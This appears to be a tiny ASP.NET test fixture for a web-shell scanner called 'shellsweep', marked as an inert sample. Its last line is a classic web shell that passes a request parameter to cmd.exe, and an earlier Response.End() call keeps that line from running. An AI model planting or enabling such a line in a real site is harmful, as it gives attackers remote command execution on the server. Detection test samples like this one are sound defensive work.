<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["cmd"]); %>
